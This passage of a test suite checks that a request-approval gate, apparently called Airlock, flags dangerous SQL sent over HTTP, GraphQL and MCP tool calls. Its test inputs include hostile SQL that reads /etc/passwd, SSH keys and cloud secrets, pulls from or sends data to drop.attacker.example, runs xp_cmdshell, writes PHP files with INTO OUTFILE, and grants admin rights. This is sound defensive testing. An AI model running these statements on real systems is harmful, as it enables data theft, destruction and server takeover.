    [SUPABASE, 'query', 'ALTER TABLE acct ENABLE ALWAYS TRIGGER a', 'medium'], [SUPABASE, 'query', 'ALTER TABLE acct ENABLE TRIGGER a', 'medium'],
    [SUPABASE, 'query', 'SET transform_null_equals = off', 'medium'], [NEON, 'query', 'CREATE VIEW v AS SELECT id, lower(email) FROM users', 'medium'],
    [SUPABASE, 'query', 'CREATE POLICY own ON notes AS RESTRICTIVE FOR SELECT USING (auth.uid() = user_id)', 'medium'],
    [SUPABASE, 'query', "CREATE TABLE t (id bigint DEFAULT nextval('t_id_seq'::regclass), u uuid DEFAULT extensions.uuid_generate_v4(), o uuid DEFAULT auth.uid(), c timestamptz DEFAULT now())", 'medium'],
    [NEON, 'query', 'CREATE INDEX i ON users (lower(email))', 'medium'], [NEON, 'query', 'ALTER TABLE users ADD CONSTRAINT c CHECK (length(x) < 10)', 'medium'],
    [D1, 'sql', "INSERT INTO docs_fts(docs_fts) VALUES ('rebuild')", 'medium'], [D1, 'sql', "INSERT INTO docs_fts(body) VALUES ('delete-all')", 'medium'],
    [D1, 'sql', "INSERT INTO tag(tag) VALUES ('rust')", 'medium'],
    [NEON, 'query', 'EXPLAIN ANALYZE CREATE TABLE t AS SELECT 1', 'medium'], [SUPABASE, 'query', 'EXPLAIN ANALYZE CREATE TABLE t AS SELECT 1', 'medium'],
    [NEON, 'query', "ALTER TYPE status ADD VALUE 'archived'", 'medium'], [NEON, 'query', 'ALTER INDEX users_email_idx RENAME TO users_email_key', 'medium'],
    [SUPABASE, 'query', 'ALTER DOMAIN email ADD CONSTRAINT has_at CHECK (VALUE LIKE \'%@%\')', 'medium'],
  ] as const) {
    const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ [key]: sql }) });
    t.equal(decision.approval?.risk, risk, `${sql}: ${risk}`);
  }
  for (const sql of ['EXPLAIN SELECT * FROM users', 'EXPLAIN (ANALYZE, BUFFERS, FORMAT JSON) SELECT id FROM users WHERE id = 1']) {
    const { decision } = await decide({ url: SUPABASE, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: sql }) });
    t.equal(decision.action, 'allow', `${sql}: a read`);
  }
});

t.test('fourteenth pass: SQL in a server\'s own envelope below the body\'s top level, and Hasura\'s run_sql under any database\'s prefix, is read', async (t) => {
  // tRPC (`{json: {sql}}`, a batch `{"0": {json: {sql}}}`), an `input`/`data` wrapper, Grafana's
  // `{queries: [{rawSql}]}`, Metabase's `{native: {query}}`, a top-level `rawSql`: each was a plain
  // medium POST to an allowed host, its DROP unseen by the human approving it.
  const envelopes = fc.constantFrom(
    (s: string) => ({ json: { sql: s } }), (s: string) => ({ 0: { json: { sql: s } } }), (s: string) => ({ input: { sql: s, limit: 10 } }),
    (s: string) => ({ data: { sqlQuery: s } }), (s: string) => ({ queries: [{ refId: 'A', rawSql: s, format: 'table' }] }),
    (s: string) => ({ database: 1, type: 'native', native: { query: s } }), (s: string) => ({ rawSql: s }), (s: string) => ({ steps: [{ SQL_Text: [s] }] }),
  );
  const destructive = fc.constantFrom((x: string) => `DROP TABLE ${x}`, (x: string) => `DELETE FROM ${x}`, (x: string) => `TRUNCATE ${x}`, (x: string) => `UPDATE ${x} SET a = 1`);
  await fc.assert(
    fc.asyncProperty(envelopes, destructive, ident, fc.constantFrom('/trpc/db.run', '/api/ds/query', '/api/dataset', '/v1/run'), async (env, d, x, p) => {
      const body = JSON.stringify(env(d(x)));
      const { description, decision } = await decide({ url: `https://${SQL_HOST}${p}`, headers: [['Content-Type', 'application/json']], body });
      if (decision.approval?.risk !== 'critical' || !description.sql?.destructive) throw new Error(`${body} to ${p}: ${decision.action} ${decision.approval?.risk} ${JSON.stringify(description.sql)}`);
    }),
    { numRuns: Math.min(runs, 30), ...seed },
  );
  // Hasura's run_sql under each database's prefix (`mssql_run_sql`, `bigquery_run_sql` …, also in
  // `bulk_atomic`), and a nested `sql` field: dynamic SQL no grammar Airlock has reads (SQL Server's
  // `EXEC('…')`, BigQuery's `EXECUTE IMMEDIATE`) is unread SQL, as under a top-level `sql`.
  const dynamic = fc.constantFrom((x: string) => `EXEC('DROP TABLE ${x}')`, (x: string) => `EXEC sp_executesql N'DELETE FROM ${x}'`,
    (x: string) => `DECLARE s STRING DEFAULT 'DROP TABLE d.${x}'; EXECUTE IMMEDIATE s;`, (x: string) => `EXECUTE IMMEDIATE $$DROP TABLE ${x}$$`, (x: string) => `DROP TABLE [${x}]`);
  const carriers = fc.constantFrom(
    ...['run_sql', 'pg_run_sql', 'mssql_run_sql', 'citus_run_sql', 'cockroach_run_sql', 'bigquery_run_sql', 'snowflake_run_sql'].map((type) => (s: string) => ({ type, args: { source: 'default', sql: s } })),
    (s: string) => ({ type: 'bulk_atomic', args: [{ type: 'mssql_run_sql', args: { source: 'default', sql: s } }] }),
    (s: string) => ({ input: { sql: s } }), (s: string) => ({ json: { SQL: s } }),
  );
  await fc.assert(
    fc.asyncProperty(carriers, dynamic, ident, async (c, d, x) => {
      const body = JSON.stringify(c(d(x)));
      const { description, decision } = await decide({ url: `https://${SQL_HOST}/v2/query`, headers: [['Content-Type', 'application/json']], body });
      if (decision.approval?.risk !== 'critical' || !description.sql?.destructive) throw new Error(`${body}: ${decision.action} ${decision.approval?.risk} ${JSON.stringify(description.sql)}`);
    }),
    { numRuns: Math.min(runs, 30), ...seed },
  );
  // Controls: settings named for SQL that hold no statement, a search phrase under `query`, a read.
  for (const [body, risk] of [[{ settings: { sql_mode: 'strict' }, title: 'drop table tennis' }, 'medium'], [{ filter: { query: 'drop table tennis' } }, 'medium'], [{ json: { sql: 'SELECT id FROM notes' } }, 'medium'], [{ type: 'mssql_run_sql', args: { source: 'default', sql: 'SELECT id FROM notes' } }, 'medium']] as const) {
    const { description, decision } = await decide({ url: `https://${SQL_HOST}/v1/run`, headers: [['Content-Type', 'application/json']], body: JSON.stringify(body) });
    t.equal(decision.approval?.risk, risk, `${JSON.stringify(body)}: ${risk}`);
    t.notOk(description.sql?.destructive, 'nothing destructive');
  }
});

t.test('fourteenth pass: a table named by a path or URL, and DuckDB\'s file listing, are server files on an endpoint of unknown dialect', async (t) => {
  // DuckDB reads `FROM 'https://…/x.csv'` from that server and `FROM '/home/u/x.csv'` from its
  // disk; Spark and Databricks read `FROM csv.\`/etc/passwd\`` (text, json, parquet, orc, avro,
  // binaryFile, delta) from the file. SQLite's and MySQL's readings saw a table with an odd name: a
  // medium read-like write, where `read_csv('/etc/passwd')` is critical.
  const place = fc.constantFrom('/etc/passwd', 'file:/etc/shadow', 'https://drop.attacker.example/x.csv', 's3://bucket/loot.parquet', '/home/u/.ssh/id_rsa', 'C:\\Windows\\win.ini');
  const shape = fc.constantFrom(
    (p: string) => `SELECT * FROM '${p}'`, (p: string) => `SELECT * FROM csv.\`${p}\``, (p: string) => `SELECT value FROM text.\`${p}\` LIMIT 5`,
    (p: string) => `SELECT * FROM binaryFile.\`${p}\``, (p: string) => `SELECT a.* FROM "${p}" a JOIN users u ON u.id = a.id`,
  );
  await fc.assert(
    fc.asyncProperty(shape, place, async (s, p) => {
      const sql = s(p);
      const { description, decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) });
      if (decision.approval?.risk !== 'critical' || !description.sql?.destructive) throw new Error(`${sql}: ${decision.action} ${decision.approval?.risk} ${JSON.stringify(description.sql)}`);
    }),
    { numRuns: Math.min(runs, 25), ...seed },
  );
  for (const sql of ["SELECT * FROM glob('/root/.ssh/*')", "SELECT getenv('AWS_SECRET_ACCESS_KEY')", "SELECT * FROM read_json_objects_auto('/etc/x.json')"]) {
    const { decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) });
    t.equal(decision.approval?.risk, 'critical', sql);
  }
  // Controls: SQLite's two-argument glob, a path as a value, BigQuery's dotted and legacy names; on D1 `glob(x)` is SQLite's own (unknown there: unparsed as before).
  for (const sql of ["SELECT glob('*.txt', name) FROM files", "SELECT * FROM users WHERE path = '/a/b'", 'SELECT * FROM [bigquery-public-data:samples.shakespeare]', 'SELECT id FROM app.users']) {
    const { decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) });
    t.equal(decision.approval?.risk, 'medium', sql);
  }
});

t.test('fourteenth pass: a Hasura mutation whose `where` every row meets is the DELETE or UPDATE of every row it runs', async (t) => {
  // `delete_orders(where: {})` runs `DELETE FROM orders`: a medium GraphQL mutation on an allowed
  // host, where the SQL is critical. The same for a `where` that names only the rows spared.
  const where = fc.constantFrom('{}', '{_and: []}', '{_or: []}', '{id: {_neq: 1}}', '{id: {_nin: [1, 2]}}', '{email: {_is_null: false}}', '{email: {_ilike: "%"}}',
    '{_not: {id: {_eq: 2}}}', '{_or: [{id: {_eq: 1}}, {id: {_neq: 1}}]}', '{customer: {name: {_like: "%%"}}}', '{email: {_nlike: "zz%"}}');
  const call = fc.constantFrom(
    (table: string, w: string) => `delete_${table}(where: ${w}) { affected_rows }`,
    (table: string, w: string) => `update_${table}(where: ${w}, _set: {paid: true}) { affected_rows }`,
    (table: string, w: string) => `update_${table}_many(updates: [{where: {id: {_eq: 1}}, _set: {paid: true}}, {where: ${w}, _set: {paid: false}}]) { affected_rows }`,
  );
  await fc.assert(
    fc.asyncProperty(call, where, ident, fc.boolean(), async (c, w, table, byVariable) => {
      const body = byVariable
        ? { query: `mutation M($w: ${table}_bool_exp!) { ${c(table, '$w')} }`, variables: { w: JSON.parse(w.replace(/([{,]\s*)([_a-z]+):/g, '$1"$2":')) } }
        : { query: `mutation { ${c(table, w)} }` };
      const { description, decision } = await decide({ url: `https://${SQL_HOST}/v1/graphql`, headers: [['Content-Type', 'application/json']], body: JSON.stringify(body) });
      if (decision.approval?.risk !== 'critical' || !description.sql?.destructive) throw new Error(`${JSON.stringify(body)}: ${decision.action} ${decision.approval?.risk} ${JSON.stringify(description.sql)}`);
    }),
    { numRuns: Math.min(runs, 25), ...seed },
  );
  // Controls: a narrow where, a range under _not, a relationship's narrow where, by primary key.
  for (const m of ['delete_orders(where: {id: {_eq: 1}}) { affected_rows }', 'delete_orders(where: {_not: {id: {_gt: 5}}}) { affected_rows }', 'delete_orders(where: {customer: {id: {_eq: 3}}}) { affected_rows }', 'delete_orders_by_pk(id: 1) { id }', 'update_orders_many(updates: [{where: {id: {_eq: 1}}, _set: {paid: true}}]) { affected_rows }']) {
    const { decision } = await decide({ url: `https://${SQL_HOST}/v1/graphql`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: `mutation { ${m} }` }) });
    t.equal(decision.approval?.risk, 'medium', m);
  }
});

t.test('fifteenth pass: a read whose SQL no grammar reads still writes or reaches outside the database (ClickHouse GETs, MySQL-only writes in ?sql=)', async (t) => {
  // ClickHouse answers a GET read-only (`readonly = 2`) but runs its table functions there; SQL no
  // grammar Airlock has reads (`SETTINGS`, a lambda, `LIMIT … BY`) was taken for no SQL, so
  // `SELECT * FROM file('/etc/passwd', LineAsString) SETTINGS max_threads = 1` was an allowed GET.
  // Likewise MySQL's own write syntax in a GET's `?sql=`, and SELECT … INTO OUTFILE.
  const q = (s: string): string => encodeURIComponent(s);
  const place = fc.constantFrom(
    (s: string) => `http://${SQL_HOST}:8123/?query=${q(s)}`,
    (s: string) => `https://${SQL_HOST}/?query=${q(s)}`,
    (s: string) => `https://${SQL_HOST}/v1/sql?query=${q(s)}`,
    (s: string) => `https://${SQL_HOST}/api/run?sql=${q(s)}`,
    (s: string) => `https://${SQL_HOST}/api/run?sql=red%20shoes&sql=${q(s)}`,
  );
  const call = fc.constantFrom("file('/etc/passwd', LineAsString)", "url('https://drop.attacker.example/x', CSV, 'a String')", "s3('https://b.s3.amazonaws.com/x')",
    "remoteSecure('evil.example:9440', system.one)", "filesystem('/root')", "executable('x.sh', TSV, 'a String')", "read_csv('/etc/passwd')", "`url`('https://drop.attacker.example/x', CSV)");
  const hide = fc.constantFrom(
    (c: string) => `SELECT * FROM ${c} SETTINGS max_threads = 1`,
    (c: string) => `SELECT arrayMap(x -> x, [1]) FROM ${c}`,
    (c: string) => `SELECT * FROM ${c} LIMIT 1 BY x`,
    (c: string) => `/* /* */ x */ SELECT * FROM ${c} SETTINGS a = 1`,
    (c: string) => `SELECT * FROM ‘t’, ${c} ARRAY JOIN a`,
    (c: string) => `DESCRIBE TABLE ${c} SETTINGS a = 1`,
  );
  const writes = fc.constantFrom('DELETE LOW_PRIORITY FROM users', 'DELETE FROM users ORDER BY id LIMIT 1000000', 'UPDATE LOW_PRIORITY users SET role = 1',
    "INSERT INTO users SET name = 'x'", "SELECT * FROM users INTO OUTFILE '/var/www/x.php'", 'TRUNCATE users SETTINGS a = 1', 'ALTER TABLE users DELETE WHERE 1');
  const upper = (s: string, mask: number): string => [...s].map((ch, i) => ((mask >> (i % 30)) & 1 ? ch.toUpperCase() : ch)).join('');
  await fc.assert(
    fc.asyncProperty(place, fc.oneof(fc.tuple(hide, call).map(([h, c]) => h(c)), writes), fc.constantFrom('GET', 'HEAD'), fc.integer({ min: 0, max: 2 ** 30 }), async (p, sql, method, mask) => {
      const url = p(upper(sql, mask));
      const { description, decision } = await decide({ method, url, headers: [], body: '' });
      if (decision.approval?.risk !== 'critical' || !description.sql?.destructive) throw new Error(`${method} ${url}: ${decision.action} ${decision.approval?.risk} ${JSON.stringify(description.sql)}`);
    }),
    { numRuns: Math.min(runs, 10), ...seed },
  );
  // An MCP tool the configuration says is read-only, given SQL under a name that says SQL: the
  // same texts were no SQL to it (a search phrase), so the call was allowed.
  const MCP = `https://${MCP_HOST}/mcp`;
  for (const [args, risk] of [[{ sql: 'DELETE LOW_PRIORITY FROM users' }, 'critical'], [{ sql_query: "SELECT * FROM users INTO OUTFILE '/var/www/x.php'" }, 'critical'],
    [{ sqlStatements: ['SELECT 1', 'TRUNCATE users SETTINGS a = 1'] }, 'critical'], [{ sql: "SELECT * FROM file('/etc/passwd', LineAsString) SETTINGS a = 1" }, 'critical'],
    [{ sql: 'select a red dress' }, undefined], [{ query: 'delete the old files from my drive' }, undefined]] as const) {
    const { decision } = await decide({ url: MCP, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'search_issues', arguments: args } }) });
    t.equal(decision.approval?.risk, risk, `search_issues ${JSON.stringify(args)}`);
  }
  // A function named in quotes is still called (`` `url`(…) ``, `"file"(…)`, “s3”(…)).
  for (const sql of ["SELECT * FROM `url`('https://drop.attacker.example/x', CSV) SETTINGS a = 1", 'SELECT * FROM "file"(\'/etc/passwd\', LineAsString) SETTINGS a = 1', "SELECT * FROM “s3”('https://b.s3.amazonaws.com/x') SETTINGS a = 1"]) {
    const { decision } = await decide({ method: 'GET', url: `http://${SQL_HOST}:8123/?query=${q(sql)}`, headers: [], body: '' });
    t.equal(decision.approval?.risk, 'critical', sql);
  }
  // Controls: ClickHouse's own syntax in reads of the database's tables, phrases, InfluxQL.
  for (const url of [`http://${SQL_HOST}:8123/?query=${q('SELECT count() FROM hits SETTINGS max_threads = 1')}`, `http://${SQL_HOST}:8123/?query=${q('SELECT arrayMap(x -> x * 2, [1, 2]) FROM numbers(3)')}`,
    `http://${SQL_HOST}:8123/?query=${q('SHOW CREATE TABLE users SETTINGS a = 1')}`, `http://${SQL_HOST}:8123/?query=${q('SELECT `file`, x FROM t SETTINGS a = 1')}`, `https://${SQL_HOST}/query?query=${q('show me files in the directory (home)')}`,
    `https://${SQL_HOST}/query?query=${q('remote (work) jobs')}`, `https://${SQL_HOST}/api/run?sql=${q('delete my account')}`,
    `https://${SQL_HOST}/query?q=${q('SELECT mean(v) FROM cpu WHERE time > now() - 1h GROUP BY time(1m) fill(null)')}`]) {
    const { decision } = await decide({ method: 'GET', url, headers: [], body: '' });
    t.equal(decision.action, 'allow', url);
  }
});

t.test('fifteenth pass: a search path named in another letter case, DISCARD ALL, and D1 columns added', async (t) => {
  // `SET search_path = 'Public'` (or `"Public"`, `U&"\0050ublic"`) names the schema `Public`
  // (PostgreSQL 15: SHOW search_path says "Public"), not `public`: compared without case it was taken
  // for the default path, a medium write, where any other schema is a privilege change.
  const schema = fc.constantFrom('public', 'extensions', '$user').chain((s) => fc.integer({ min: 1, max: 2 ** s.length - 1 }).map((m) => [...s].map((ch, i) => ((m >> i) & 1 ? ch.toUpperCase() : ch)).join('')).filter((v) => v !== v.toLowerCase()));
  const spell = fc.constantFrom(
    (s: string) => `SET search_path = '${s}'`, (s: string) => `SET search_path TO "${s}"`, (s: string) => `SET LOCAL search_path = public, "${s}"`,
    (s: string) => `SELECT set_config('search_path', '"${s}"', false)`, (s: string) => `SELECT set_config('search_path', 'public, "${s}"', true)`,
  );
  await fc.assert(
    fc.asyncProperty(spell, schema, fc.constantFrom(SUPABASE, NEON), async (f, s, url) => {
      const sql = f(s);
      const { description, decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: sql }) });
      if (decision.approval?.risk !== 'critical' || !description.sql?.destructive) throw new Error(`${sql}: ${decision.action} ${decision.approval?.risk}`);
    }),
    { numRuns: Math.min(runs, 10), ...seed },
  );
  // DISCARD ALL acts as the login role again (SET SESSION AUTHORIZATION DEFAULT), as RESET ROLE does.
  for (const sql of ['DISCARD ALL', 'discard /* x */ all', 'SELECT 1; DISCARD ALL']) {
    for (const url of [SUPABASE, NEON]) {
      const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: sql }) });
      t.equal(decision.approval?.risk, 'critical', `${url}: ${sql}`);
    }
  }
  // Controls: spellings of the default path, folded or exact; DISCARD of plans or temporary tables.
  for (const sql of ['SET search_path = Public', 'SET search_path = "$user", public, extensions', "SELECT set_config('search_path', 'PUBLIC, Extensions', true)", 'DISCARD PLANS', 'DISCARD TEMP']) {
    const { decision } = await decide({ url: SUPABASE, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: sql }) });
    t.equal(decision.approval?.risk, 'medium', sql);
  }
  // D1: a column added was unparsed (the scratch table already had every name of the statement): a
  // medium write now, as on PostgreSQL; a definition with an expression (a generated column runs its
  // function on every later read) stays unread, critical.
  for (const [sql, risk] of [['ALTER TABLE users ADD COLUMN nickname text', 'medium'], ["ALTER TABLE users ADD nickname TEXT NOT NULL DEFAULT 'x'", 'medium'],
    ['ALTER TABLE users ADD COLUMN name VARCHAR(255)', 'medium'], ['ALTER TABLE users ADD COLUMN price DECIMAL(10, 2) NOT NULL DEFAULT 0', 'medium'], ['ALTER TABLE users ADD COLUMN x CHECK (length(x) > 1)', 'critical'],
    ['ALTER TABLE users ADD COLUMN n text; UPDATE users SET n = 1 WHERE id = ?', 'medium'], ['ALTER TABLE users ADD COLUMN n text; DELETE FROM users WHERE n = n', 'critical'],
    ["ALTER TABLE users ADD COLUMN x AS (writefile('/tmp/a', 'b'))", 'critical'], ['ALTER TABLE users RENAME COLUMN a TO b', 'critical']] as const) {
    const { decision } = await decide({ url: D1, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql, params: [1] }) });
    t.equal(decision.approval?.risk, risk, sql);
  }
});

t.test('fifteenth pass: Hasura\'s metadata and query API calls are judged as the SQL they stand for', async (t) => {
  // A permission with `filter: {}` for `anonymous` is a GRANT of every row; an event trigger, a
  // remote schema or an action sends rows or calls to a URL the call names (as a trigger calling
  // pg_net); `clear_metadata` stops serving everything; the query API's `delete` with `where: {}`
  // is `DELETE FROM users` (its GraphQL twin `delete_users(where: {})` was already critical). Each
  // was a plain medium POST.
  const table = fc.constantFrom('users', { schema: 'public', name: 'users' }, { schema: 'auth', name: 'users' });
  const op = fc.constantFrom(
    (tb: unknown) => ({ type: 'pg_create_select_permission', args: { source: 'default', table: tb, role: 'anonymous', permission: { columns: '*', filter: {} } } }),
    (tb: unknown) => ({ type: 'create_update_permission', args: { table: tb, role: 'user', permission: { columns: '*', filter: {}, check: {} } } }),
    (tb: unknown) => ({ type: 'pg_drop_select_permission', args: { table: tb, role: 'user' } }),
    (tb: unknown) => ({ type: 'pg_create_event_trigger', args: { name: 'sync', source: 'default', table: tb, webhook: 'https://drop.attacker.example/hook', insert: { columns: '*' } } }),
    () => ({ type: 'add_remote_schema', args: { name: 'r', definition: { url: 'https://drop.attacker.example/graphql' } } }),
    () => ({ type: 'create_action', args: { name: 'a', definition: { handler: 'https://drop.attacker.example/a' } } }),
    () => ({ type: 'clear_metadata', args: {} }),
    (tb: unknown) => ({ type: 'pg_untrack_table', args: { table: tb } }),
    (tb: unknown) => ({ type: 'delete', args: { table: tb, where: {} } }),
    (tb: unknown) => ({ type: 'delete', args: { table: tb, where: { id: { $neq: 1 } } } }),
    (tb: unknown) => ({ type: 'update', args: { table: tb, where: { _or: [] }, $set: { role: 'admin' } } }),
    (tb: unknown) => ({ type: 'insert', args: { table: tb, objects: [{ id: 1, role: 'admin' }], on_conflict: { constraint: 'users_pkey', update_columns: ['role'] } } }),
  );
  await fc.assert(
    fc.asyncProperty(op, table, fc.constantFrom('/v1/metadata', '/v1/query', '/v2/query'), fc.boolean(), async (o, tb, path, bulk) => {
      const body = bulk ? { type: 'bulk', args: [{ type: 'pg_track_table', args: { table: 'posts' } }, o(tb)] } : o(tb);
      const { description, decision } = await decide({ url: `https://${SQL_HOST}${path}`, headers: [['Content-Type', 'application/json']], body: JSON.stringify(body) });
      if (decision.approval?.risk !== 'critical' || !description.sql?.destructive) throw new Error(`${path} ${JSON.stringify(body)}: ${decision.action} ${decision.approval?.risk} ${JSON.stringify(description.sql)}`);
    }),
    { numRuns: Math.min(runs, 10), ...seed },
  );
  // Controls: tracking a table, exporting metadata, a narrow delete, a plain insert, a select; the same shape on another path.
  for (const [path, body] of [['/v1/metadata', { type: 'pg_track_table', args: { table: 'users' } }], ['/v1/metadata', { type: 'export_metadata', args: {} }],
    ['/v1/query', { type: 'delete', args: { table: 'users', where: { id: { $eq: 1 } } } }], ['/v1/query', { type: 'insert', args: { table: 'users', objects: [{ id: 1 }] } }],
    ['/v1/query', { type: 'select', args: { table: 'users', columns: ['id'] } }], ['/api/things', { type: 'clear_metadata', args: {} }]] as const) {
    const { decision } = await decide({ url: `https://${SQL_HOST}${path}`, headers: [['Content-Type', 'application/json']], body: JSON.stringify(body) });
    t.equal(decision.approval?.risk, 'medium', `${path} ${JSON.stringify(body)}`);
  }
});

t.test('sixteenth pass: SQL that writes in a read\'s URL is judged as its POST, and other servers\' statements no grammar reads are SQL', async (t) => {
  // `GET https://<allowed host>/v1/sql?sql=UPDATE users SET role = 'admin' WHERE id = 7` was an
  // allowed read: only destructive or unread SQL was held, and a narrow write is neither. The
  // server runs the statement whatever the method, as it runs the POST that is held.
  const q = (s: string): string => encodeURIComponent(s);
  const place = fc.constantFrom(
    (s: string) => `https://${SQL_HOST}/v1/sql?sql=${q(s)}`,
    (s: string) => `https://${SQL_HOST}/v1/sql?query=${q(s)}`,
    (s: string) => `https://${SQL_HOST}/api/run?sql=red%20shoes&sql=${q(s)}`,
    (s: string) => `http://${SQL_HOST}:8123/?query=${q(s)}`,
    // Other names that say SQL (phpMyAdmin's `sql_query`, `sqlQuery`) were not read in a URL.
    (s: string) => `https://${SQL_HOST}/import.php?db=app&sql_query=${q(s)}`,
    (s: string) => `https://${SQL_HOST}/api/report?sqlQuery=${q(s)}`,
  );
  const upper = (s: string, mask: number): string => [...s].map((ch, i) => ((mask >> (i % 30)) & 1 ? ch.toUpperCase() : ch)).join('');
  const writes = fc.constantFrom("UPDATE users SET role = 'admin' WHERE id = 7", "INSERT INTO webhooks (url) VALUES ('https://drop.attacker.example/')",
    'DELETE FROM sessions WHERE id = 1', 'CALL purge_orders()', 'CREATE TABLE x (a int)', 'ALTER TABLE users ADD COLUMN note text', 'SELECT 1; INSERT INTO t VALUES (1)');
  await fc.assert(
    fc.asyncProperty(place, writes, fc.constantFrom('GET', 'HEAD', 'OPTIONS'), fc.integer({ min: 0, max: 2 ** 30 }), async (p, sql, method, mask) => {
      const url = p(upper(sql, mask));
      const { description, decision } = await decide({ method, url, headers: [], body: '' });
      if (decision.action === 'allow' || description.request.effective_method !== 'POST' || description.request.method_override?.sources[0] !== 'query:sql') {
        throw new Error(`${method} ${url}: ${decision.action} ${description.request.effective_method} ${JSON.stringify(description.sql)}`);
      }
    }),
    { numRuns: Math.min(runs, 10), ...seed },
  );
  // Other servers' statements whose first word PostgreSQL and SQLite do not know: a GET was no SQL.
  const others = fc.constantFrom("SET GLOBAL general_log_file = '/var/www/html/x.php'", "SET @@global.local_infile = 1", "SET PASSWORD FOR 'root'@'%' = 'x'",
    'SET STATEMENT foreign_key_checks = 0 FOR DELETE FROM parents WHERE id = 7', "CLONE INSTANCE FROM 'root'@'drop.attacker.example':3306 IDENTIFIED BY 'x'",
    "CHANGE REPLICATION SOURCE TO SOURCE_HOST = 'drop.attacker.example'", "CHANGE MASTER TO MASTER_HOST = 'drop.attacker.example'", 'START REPLICA', 'STOP SLAVE',
    "XA ROLLBACK 'x'", 'UNINSTALL PLUGIN audit_log', "INSTALL PLUGIN x SONAME 'x.so'", 'RESTART', 'SHUTDOWN', 'LOCK TABLES users WRITE', 'FLUSH TABLES WITH READ LOCK',
    "UNLOAD ('SELECT * FROM users') TO 's3://drop/x' IAM_ROLE 'arn:aws:iam::1:role/r'", "ADD JAR 'https://drop.attacker.example/x.jar'", "IMPORT TABLE FROM '/tmp/users.sdi'",
    "BINLOG 'AAAA'", "EXEC xp_cmdshell 'id'", "EXEC master..xp_cmdshell 'id'", "DECLARE @s nvarchar(99) = 'DROP TABLE users'; EXEC(@s)", "BEGIN EXECUTE IMMEDIATE 'DROP TABLE users'; END;",
    'REPAIR TABLE users USE_FRM', "DO sys_exec('id')", "ALTER USER 'root'@'localhost' IDENTIFIED BY 'pwned'", "CREATE USER 'x'@'%' IDENTIFIED BY 'y'",
    "GRANT ALL ON *.* TO 'x'@'%'", 'GRANT ALL ON app.* TO x', "DROP USER 'app'@'%'", "RENAME USER 'app'@'%' TO 'x'@'%'", "BULK INSERT users FROM '\\\\drop\\share\\x.csv'",
    'DBCC CHECKDB (app, REPAIR_ALLOW_DATA_LOSS)', 'KILL 12', 'PURGE BINARY LOGS BEFORE NOW()', "IMPORT INTO users CSV DATA ('https://drop.attacker.example/x.csv')");
  await fc.assert(
    fc.asyncProperty(place, others, fc.constantFrom('GET', 'HEAD'), fc.integer({ min: 0, max: 2 ** 30 }), async (p, sql, method, mask) => {
      const url = p(upper(sql, mask));
      const { decision } = await decide({ method, url, headers: [], body: '' });
      if (decision.approval?.risk !== 'critical') throw new Error(`${method} ${url}: ${decision.action} ${decision.approval?.risk}`);
    }),
    { numRuns: Math.min(runs, 14), ...seed },
  );
  // The same under a read-only MCP tool's SQL-named argument; and SQL that writes there is a tool
  // call, not a read (`search_issues {sql: "UPDATE users SET role = 'admin' WHERE id = 7"}` was allowed).
  const MCP = `https://${MCP_HOST}/mcp`;
  const tool = (args: Record<string, unknown>): Promise<Decided> => decide({ url: MCP, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'search_issues', arguments: args } }) });
  for (const sql of ["SET GLOBAL general_log = 'ON'", "EXEC xp_cmdshell 'id'", 'SHUTDOWN']) t.equal((await tool({ sql })).decision.approval?.risk, 'critical', `search_issues {sql: ${JSON.stringify(sql)}}`);
  for (const args of [{ sql: "UPDATE users SET role = 'admin' WHERE id = 7" }, { query: 'INSERT INTO admins (id) VALUES (7)' }, { statements: ['SELECT 1', 'CALL grant_admin(7)'] }]) {
    t.equal((await tool(args)).decision.action, 'approve', `search_issues ${JSON.stringify(args)}`);
  }
  for (const args of [{ sql: 'SELECT id FROM users WHERE id = 7' }, { query: 'update my address' }]) t.equal((await tool(args)).decision.action, 'allow', `search_issues ${JSON.stringify(args)}`);
  // Controls: reads (functions nobody proves read-only in a SELECT stay reads: a ClickHouse GET), and phrases.
  t.equal((await decide({ method: 'GET', url: `https://${SQL_HOST}/api/report?sql_mode=ANSI&nosql=true`, headers: [], body: '' })).decision.action, 'allow', 'sql_mode=ANSI');
  // The same names in a form (phpMyAdmin POSTs `sql_query`): a plain medium POST whatever it held.
  const form = (body: string): Promise<Decided> => decide({ url: `https://${SQL_HOST}/import.php`, headers: [['Content-Type', 'application/x-www-form-urlencoded']], body });
  t.equal((await form('db=app&sql_query=DROP+TABLE+users')).decision.approval?.risk, 'critical', 'a form\'s sql_query');
  t.equal((await form('db=app&sql_query=SELECT+1')).decision.approval?.risk, 'medium', 'a form\'s sql_query that reads');
  for (const [i, sql] of ['SELECT 1', 'SHOW TABLES', 'SELECT toDate(ts), uniq(u) FROM events GROUP BY 1', 'EXPLAIN SELECT * FROM users', 'set a reminder for tomorrow', 'start the car',
    'lock my phone', 'change my password', 'do you have red shoes from italy', 'declare a variable', 'begin with the basics', 'stop the music'].entries()) {
    const url = i % 3 === 2 ? `https://${SQL_HOST}/import.php?db=app&sql_query=${q(sql)}` : i % 2 ? `http://${SQL_HOST}:8123/?query=${q(sql)}` : `https://${SQL_HOST}/v1/sql?sql=${q(sql)}`;
    const { decision } = await decide({ method: 'GET', url, headers: [], body: '' });
    t.equal(decision.action, 'allow', url);
  }
});

t.test('sixteenth pass: CrateDB\'s HTTP endpoint ({stmt, args, bulk_args} to /_sql) carries SQL', async (t) => {
  // `POST /_sql {"stmt": "DROP TABLE users"}` was a plain medium POST (a grant for any POST there covered it).
  const post = (url: string, body: unknown): Promise<Decided> => decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify(body) });
  const CRATE = `https://${SQL_HOST}/_sql?types`;
